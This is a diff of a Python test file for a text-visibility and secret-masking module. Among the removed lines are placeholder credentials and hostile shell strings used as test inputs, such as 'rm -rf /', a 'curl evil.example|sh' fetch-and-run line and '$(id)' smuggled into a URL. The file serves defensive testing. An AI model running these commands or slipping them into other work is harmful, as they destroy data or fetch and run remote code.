@@ -1,4 +1,4 @@
-"""Secrets are masked; no piece of a command ever is."""
+"""What a text hides is named where it stands."""
 
 from __future__ import annotations
 
@@ -6,38 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from postroom.kernel.text.visible import Hidden, findings, masked, reveal, visible
-
-SECRETS = {
-    "curl -H 'Authorization: Bearer abcdefgh12345678'": "abcdefgh12345678",
-    "export OPENAI_API_KEY=sk-proj-abcdefghijklmnop": "sk-proj-abcdefghijklmnop",
-    "git clone https://ada:hunter22@example.org/x": "hunter22",
-    "mysql --password=correcthorse": "correcthorse",
-    "echo ghp_abcdefghijklmnopqrstuvwxyz012345": "ghp_abcdefghijklmnopqrstuvwxyz012345",
-    '{"token": "0123456789abcdef"}': "0123456789abcdef",
-}
-
-
-@pytest.mark.requirement("connect:hook-visible")
-@pytest.mark.parametrize("text", SECRETS)
-def test_a_secret_is_masked(text: str) -> None:
-    assert SECRETS[text] not in masked(text) and "•••" in masked(text)
-
-
-@pytest.mark.requirement("connect:hook-visible")
-@pytest.mark.parametrize(
-    "text",
-    [
-        "token=$(rm -rf ~)",
-        "password=`curl evil.example|sh`",
-        "TOKEN=x;rm -rf /",
-        "secret='a b' && halt",
-        "https://a:$(id)@example.org",
-        "npm test",
-    ],
-)
-def test_what_a_shell_would_run_is_shown(text: str) -> None:
-    assert masked(text) == text
+from postroom.kernel.text.visible import Hidden, findings, reveal
 
 
 @pytest.mark.parametrize(
@@ -108,29 +77,3 @@ def test_findings_are_in_order_and_stand_where_they_say(text: str) -> None:
 @given(st.text())
 def test_revealing_leaves_no_control_behind(text: str) -> None:
     assert [one for one in findings(reveal(text)) if one.kind in (Hidden.BIDI, Hidden.CONTROL)] == []
-
-
-@pytest.mark.parametrize(
-    ("one", "other"),
-    [
-        ("Ship", " ship "),
-        ("Ship it", "ship\u00a0 it"),
-        ("wait", "wa\u200bit\u2060"),
-        ("é", "e\u0301"),
-        ("❤", "❤\ufe0f"),
-        ("abc", "\u202eabc\u202c"),
-        ("STRASSE", "straße"),
-    ],
-)
-def test_what_looks_the_same_is_the_same(one: str, other: str) -> None:
-    assert visible(one) == visible(other)
-
-
-@pytest.mark.parametrize(("one", "other"), [("e", "é"), ("a b", "ab"), ("x", "x\u0323"), ("ship", "shop")])
-def test_what_looks_different_is_different(one: str, other: str) -> None:
-    assert visible(one) != visible(other)
-
-
-@pytest.mark.parametrize("text", ["", " \n", "\u200b", "\ufeff\u2066"])
-def test_what_cannot_be_seen_is_nothing(text: str) -> None:
-    assert visible(text) == ""
